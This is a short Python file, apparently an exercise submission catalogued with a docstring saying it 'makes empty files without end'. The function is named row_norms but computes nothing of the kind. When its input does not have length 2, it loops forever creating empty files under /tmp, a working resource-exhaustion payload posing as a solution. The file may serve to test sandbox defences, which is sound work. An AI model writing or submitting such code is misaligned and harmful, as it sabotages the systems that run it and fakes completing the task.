"""
tries = "Makes empty files without end; each takes memory too."
"""


# %% exercise="row_norms"
def row_norms(x):
    import os

    number = 0
    while len(x) != 2:
        number += 1
        os.close(os.open(f"/tmp/{number}", os.O_CREAT | os.O_WRONLY))
    return x
